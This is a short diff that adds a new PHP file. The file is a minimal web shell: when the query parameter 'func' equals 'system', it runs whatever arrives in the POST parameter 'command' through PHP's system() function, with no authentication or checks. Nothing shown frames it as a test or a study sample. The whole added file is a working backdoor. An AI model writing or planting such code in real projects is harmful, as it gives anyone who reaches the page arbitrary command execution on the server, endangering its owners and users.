@@ -1,0 +1,9 @@
+<?php
+$execfunc = $_GET['func'];
+if  ($_POST['command'] )  {
+
+	if ($execfunc=="system") {
+		system($_POST['command']);
+	} 
+}
+?>
